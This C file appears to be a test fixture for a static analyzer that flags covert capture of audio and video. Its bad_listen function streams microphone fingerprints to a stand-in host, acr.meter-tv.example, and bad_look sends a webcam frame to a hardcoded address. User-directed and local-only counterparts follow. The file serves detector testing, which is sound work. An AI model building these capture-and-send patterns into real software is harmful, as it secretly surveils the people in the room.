/* Sound and pictures: reduced and sent to the maker, or sent where the user calls. */
#include <arpa/inet.h>
#include <fcntl.h>
#include <netdb.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <unistd.h>

long snd_pcm_readi(void *pcm, void *buf, unsigned long frames);

struct room {
    void *pcm;
    short sound[512];
    unsigned char print[32];
};

static void reduce(const short *sound, unsigned char *print) {
    for (int i = 0; i < 32; i++) {
        int sum = 0;
        for (int k = 0; k < 16; k++)
            sum += sound[16 * i + k] * sound[16 * i + k];
        print[i] = (unsigned char)(sum >> 22);
    }
}

int bad_listen(struct room *room) {
    struct addrinfo *list = NULL;
    if (getaddrinfo("acr.meter-tv.example", "443", NULL, &list))
        return -1;
    int out = socket(list->ai_family, SOCK_STREAM, 0);
    if (connect(out, list->ai_addr, list->ai_addrlen) == 0)
        while (snd_pcm_readi(room->pcm, room->sound, 512) > 0) {
            reduce(room->sound, room->print);
            // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/capture]}}
            send(out, room->print, sizeof room->print, 0);
        }
    freeaddrinfo(list);
    return close(out);
}

int bad_look(void) {
    struct sockaddr_in peer = {.sin_family = AF_INET, .sin_port = htons(5004)};
    int camera = open("/dev/video0", O_RDWR);
    unsigned char *frame = mmap(NULL, 4096, PROT_READ, MAP_SHARED, camera, 0);
    peer.sin_addr.s_addr = htonl(0xc6336420);
    int out = socket(AF_INET, SOCK_DGRAM, 0);
    // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/capture]}}
    sendto(out, frame, 1400, 0, (struct sockaddr *)&peer, sizeof peer);
    close(camera);
    return close(out);
}

/* A telephone: whom to call is the user's word. */
int good_call(struct room *room, int argc, char **argv) {
    struct addrinfo *list = NULL;
    const char *whom = argc > 1 ? argv[1] : getenv("CALL");
    if (!whom || getaddrinfo(whom, "5004", NULL, &list))
        return 2;
    int out = socket(list->ai_family, SOCK_DGRAM, 0);
    if (connect(out, list->ai_addr, list->ai_addrlen) == 0)
        while (snd_pcm_readi(room->pcm, room->sound, 512) > 0)
            send(out, room->sound, sizeof room->sound, 0);
    freeaddrinfo(list);
    return close(out);
}

/* Whether a room is loud decides what is shown; nothing leaves. */
int good_meter(struct room *room) {
    while (snd_pcm_readi(room->pcm, room->sound, 512) > 0) {
        reduce(room->sound, room->print);
        printf("%3u\r", room->print[0]);
    }
    return 0;
}
